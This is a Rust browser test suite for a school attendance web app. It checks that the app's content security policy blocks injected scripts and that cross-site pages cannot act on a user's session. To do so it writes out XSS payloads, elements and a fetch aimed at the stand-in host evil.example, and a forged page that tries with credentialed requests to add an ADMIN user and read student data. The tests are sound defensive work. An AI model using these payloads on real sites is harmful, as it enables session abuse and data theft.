//! The pages' policy in a real browser: no page breaks its own, whatever came into a page could do nothing, and no
//! page of another site changes anything here.

use crate::browser::Browser;
use anyhow::{Context as _, Result};
use chrono::NaiveDate;
use commands::roll_call;
use domain::roll_call::{Key, Reason};
use domain::student::GuardianRights;
use serde_json::{Value, json};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;
use web::permissions::{Access, ROUTES};
use web::testing::{TestApp, TestSchool, case_of};

const PATIENCE: Duration = Duration::from_secs(10);

/// Writes down what the policy refused and what htmx failed at; both are silent otherwise.
const WATCH: &str = "
    window.refused = [];
    addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective + ' ' + e.blockedURI), true);
    for (const name of ['htmx:error', 'htmx:security:strip'])
        addEventListener(name, e => refused.push(name + ' ' + (e.detail?.error ?? '')), true);";

async fn scene() -> Result<(TestApp, TestSchool, Browser)> {
    anyhow::ensure!(Browser::available(), "no Chromium or no chromedriver on this machine: run make deps");
    let app = TestApp::start().await?;
    let school = app.school(3).await?;
    app.case(&school).await?;
    app.broadcast(&school).await?;
    roll_call::start(app.write(), &app.context(school.id), Reason::Drill).await?;
    roll_call::end(app.write(), &app.context(school.id), drill(&school)).await?;
    app.settle().await?;
    let rights = GuardianRights { may_view: true, ..GuardianRights::default() };
    app.guardian(&school, "ana@example.com", &[(school.pupils[0].0, rights)]).await?;
    let browser = Browser::start().await?;
    browser.run_first(WATCH).await?;
    browser.sign_in(&app.base).await?;
    browser.keep(&app.family("ana@example.com").await?).await?;
    Ok((app, school, browser))
}

/// The day's only roll call, which is over.
fn drill(school: &TestSchool) -> Key {
    roll_call::nth(school.id, NaiveDate::from_ymd_opt(2026, 3, 9).expect("a date"), 1)
}

/// The addresses of all pages.
fn pages(school: &TestSchool) -> Vec<String> {
    let pages = ROUTES.iter().filter(|route| route.method == "GET" && !route.is_api());
    let pages = pages.filter(|route| route.access != Access::Local);
    let none = ["/healthz", "/readyz", "/assets/{name}", "/hoy/live"];
    pages
        .map(|route| route.path)
        // A document is a file, and no page.
        .filter(|path| !none.contains(path) && !path.contains("/documento/"))
        .chain(["/no-such-page"])
        .map(|path| {
            let (case, call) = (case_of(school), drill(school));
            let path = path.replace("{date}/{roll_call_id}", &format!("{}/{}", call.date, call.id));
            let path = path.replace("{date}", &case.date.to_string()).replace("{slot_id}", &case.slot_id.to_string());
            let path =
                path.replace("{id}", &school.course.to_string()).replace("{kiosk_id}", &school.kiosk.to_string());
            let path = path.replace("{broadcast_id}", &school.course.to_string());
            let path = path.replace("{student_id}", &case.student_id.to_string());
            assert!(!path.contains('{'), "{path}");
            format!("{path}?colegio={}", school.id)
        })
        .collect()
}

/// What was refused on the page that is open, in the page's own words and in the browser's.
async fn refused(browser: &Browser) -> Result<Vec<String>> {
    let seen = browser.execute("return window.refused").await?;
    let seen = seen.as_array().context("nobody watches")?.iter().map(Value::to_string);
    let policy = ["Content Security Policy", "Refused to", "TrustedHTML", "TrustedScript", "integrity"];
    let console = browser.console().await?.into_iter().filter(|line| policy.iter().any(|word| line.contains(word)));
    Ok(seen.chain(console).collect())
}

#[tokio::test(flavor = "multi_thread")]
async fn a18_no_page_breaks_its_own_policy_and_htmx_works_under_it() {
    let (app, school, browser) = scene().await.unwrap();
    let pages = pages(&school);
    assert!(pages.len() > 15, "{pages:?}");
    for signed_in in [true, false] {
        if !signed_in {
            browser.forget().await.unwrap();
        }
        for page in &pages {
            browser.goto(&format!("{}{page}", app.base)).await.unwrap();
            let runs = browser.execute("return [typeof htmx, typeof trustedTypes.defaultPolicy]").await.unwrap();
            assert_eq!(runs, json!(["object", "object"]), "{page}: the script runs");
            let status = "return performance.getEntriesByType('navigation')[0].responseStatus";
            let status = browser.execute(status).await.unwrap();
            assert_eq!(status == json!(404), page.starts_with("/no-such-page"), "{page}: {status}");
            assert_eq!(refused(&browser).await.unwrap(), Vec::<String>::new(), "{page}");
        }
    }
    // A board that is open swaps what the stream brings.
    browser.goto(&format!("{}/entrar", app.base)).await.unwrap();
    browser.sign_in(&app.base).await.unwrap();
    browser.goto(&format!("{}/hoy?colegio={}", app.base, school.id)).await.unwrap();
    for (n, (_, card)) in school.pupils.iter().enumerate() {
        app.clock.advance(chrono::TimeDelta::seconds(2));
        let seq = i64::try_from(n).unwrap() + 1;
        app.scan(&school, &[school.scan(seq, card, app.now())]).await.unwrap();
        let inside = (n + 1).to_string();
        browser.wait_for_text("#answer .figure", PATIENCE, |text| text == inside).await.unwrap();
    }
    assert_eq!(refused(&browser).await.unwrap(), Vec::<String>::new(), "the live board");
    app.shutdown().await;
}

/// What somebody might bring into a page, and what it says when it ran.
const INJECTED: [(&str, &str); 9] = [
    ("markup", "document.body.innerHTML = '<b>x</b>'; return 'ran'"),
    (
        "markup beside",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran=1\">'); return 'ran'",
    ),
    ("eval", "return eval('\"ran\"')"),
    ("a function of text", "return new Function('return \"ran\"')()"),
    ("a policy of its own", "trustedTypes.createPolicy('mine', {createHTML: x => x}); return 'ran'"),
    ("a script's text", "const s = document.createElement('script'); s.text = 'window.ran=1'; return 'ran'"),
    ("a script's address", "const s = document.createElement('script'); s.src = '/assets/x.js'; return 'ran'"),
    ("a handler", "document.body.setAttribute('onclick', 'window.ran=1'); return 'ran'"),
    ("text after a while", "setTimeout('window.ran=1', 0); return 'ran'"),
];

#[tokio::test(flavor = "multi_thread")]
async fn a18_a20_p25_whatever_came_into_a_page_runs_nothing_sends_nothing_and_is_reported() {
    let (app, school, browser) = scene().await.unwrap();
    let board = format!("{}/hoy?colegio={}", app.base, school.id);
    for (what, script) in INJECTED {
        browser.goto(&board).await.unwrap();
        // In a turn of the page's own: what the driver itself evaluates may evaluate.
        let tried = format!(
            "return new Promise(done => setTimeout(() => {{
               try {{ done((() => {{ {script} }})()) }} catch (error) {{ done(error.name) }} }}, 0))"
        );
        let said = browser.execute(&tried).await.unwrap();
        assert!(["TypeError", "EvalError"].iter().any(|name| said == *name), "{what}: {said}");
        tokio::time::sleep(Duration::from_millis(50)).await;
        assert_eq!(browser.execute("return window.ran ?? null").await.unwrap(), Value::Null, "{what}");
        assert!(!refused(&browser).await.unwrap().is_empty(), "{what}: nobody noticed");
    }
    // Elements that the parser of a page might have made: a script, a style, a frame, a form to elsewhere, an address.
    let script = "
        const add = (name, attributes) => {
            const element = document.createElement(name);
            for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
            document.body.append(element);
            return element;
        };
        add('iframe', {src: '/entrar'}); add('base', {href: 'https://evil.example/'});
        add('link', {rel: 'stylesheet', href: 'https://evil.example/x.css'}); add('img', {src: 'https://evil.example/x.png'});
        add('p', {style: 'color: red'});
        const form = add('form', {action: 'https://evil.example/', method: 'post'}); form.submit();
        htmx.process(add('div', {'hx-get': '/healthz', 'hx-trigger': 'load', 'hx-swap': 'none'}));
        htmx.process(add('div', {'hx-get': '/readyz', 'hx-trigger': 'load', 'hx-nonce': 'bm8'}));
        htmx.process(add('div', {'hx-sse:connect': '/metrics', 'hx-trigger': 'load'}));
        return fetch('https://evil.example/').then(() => 'sent', error => error.name)";
    // One network's reports are few.
    app.clock.advance(chrono::TimeDelta::minutes(2));
    browser.goto(&board).await.unwrap();
    assert_eq!(browser.execute(script).await.unwrap(), "TypeError");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let seen = refused(&browser).await.unwrap().join("\n");
    for directive in ["frame-src", "base-uri", "style-src", "img-src", "form-action", "connect-src"] {
        assert!(seen.contains(directive), "{directive}: {seen}");
    }
    let asked = "return performance.getEntriesByType('resource').map(e => new URL(e.name).pathname)";
    let asked = browser.execute(asked).await.unwrap();
    for never in ["/healthz", "/readyz", "/metrics"] {
        assert!(!asked.as_array().unwrap().contains(&json!(never)), "{asked}");
    }
    let here = browser.execute("return [location.pathname, document.querySelectorAll('main').length]").await.unwrap();
    assert_eq!(here, json!(["/hoy", 1]), "the page is what it was");
    // And the browser has told us.
    for directive in ["require-trusted-types-for", "frame-src", "style-src-attr"] {
        crate::support::eventually(directive, async || {
            let figures = app.get("/metrics").await?.text().await?;
            Ok(figures.contains(&format!("csp_violations_total{{directive=\"{directive}\"}}")))
        })
        .await
        .unwrap();
    }
    app.shutdown().await;
}

/// A page of somebody else's that makes whoever looks at it write here, in every way that a page knows.
async fn foreign_site(target: &str, school: &TestSchool) -> Result<u16> {
    let write = format!("{target}/personas/invitar?colegio={}", school.id);
    let page = format!(
        "<!DOCTYPE html><title>x</title><link rel=prefetch href='{target}/hoy'><iframe name=f></iframe>
         <img src='{target}/hoy'><form id=a method=post action='{write}' target=f>
         <input name=nombre value='Eva Soto'><input name=email value='eva@evil.example'><input name=rol value=ADMIN></form>
         <form id=b method=post enctype=text/plain action='{write}' target=f><input name=nombre value='Eva Soto'></form>
         <script>
           const body = new URLSearchParams({{nombre: 'Eva Soto', email: 'eva@evil.example', rol: 'ADMIN'}});
           document.querySelector('#a').submit(); document.querySelector('#b').submit();
           const ways = ['no-cors', 'cors'].map(mode => fetch('{write}', {{method: 'POST', mode, body, credentials: 'include'}}));
           const read = fetch('{target}/api/v1/students?school={}', {{credentials: 'include'}}).then(r => r.text());
           const put = fetch('{target}/salir', {{method: 'PUT', credentials: 'include'}});
           navigator.sendBeacon('{target}/salir', body);
           Promise.allSettled([...ways, read, put]).then(all => {{ document.title = all.map(w => w.value?.status ?? w.value ?? 'x').join(); }});
         </script>",
        school.id
    );
    let answer = format!("HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\n\r\n{page}", page.len());
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let port = listener.local_addr()?.port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let answer = answer.clone();
            tokio::spawn(async move {
                let _ = stream.read(&mut [0; 4096]).await;
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    Ok(port)
}

#[tokio::test(flavor = "multi_thread")]
async fn a21_a_page_of_another_site_changes_nothing_and_reads_nothing_in_a_real_browser() {
    let (app, school, browser) = scene().await.unwrap();
    let head = async || nats::log::head(&app.running().pools().log_reader).await.unwrap().position;
    let before = head().await;
    let port = foreign_site(&app.base, &school).await.unwrap();
    // Another site, and another port of this one: to the browser the same site, whose requests bring the cookies.
    for host in ["localhost", "127.0.0.1"] {
        browser.goto(&format!("http://{host}:{port}/")).await.unwrap();
        let begun = std::time::Instant::now();
        let title = loop {
            let title = browser.execute("return document.title").await.unwrap();
            if title != "x" || begun.elapsed() > PATIENCE {
                break title;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        };
        // Nothing that was asked for was given to it, not even unread.
        assert_eq!(title, "x,x,x,x", "{host}");
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert_eq!(head().await, before, "{host}");
    }
    // The cookies are still good, and a page of ours may do what those could not.
    let people = format!("{}/personas?colegio={}", app.base, school.id);
    browser.goto(&people).await.unwrap();
    assert!(browser.text("h1").await.unwrap().is_some_and(|text| text.contains("Personas")), "nobody signed out");
    let ours = format!(
        "return fetch('/personas/invitar?colegio={}', {{method: 'POST', body: new URLSearchParams(
            {{nombre: 'Eva Soto', email: 'eva@escuela.cl', rol: 'INSPECTOR'}})}}).then(r => r.status)",
        school.id
    );
    assert_eq!(browser.execute(&ours).await.unwrap(), 200);
    assert!(head().await > before);
    app.shutdown().await;
}
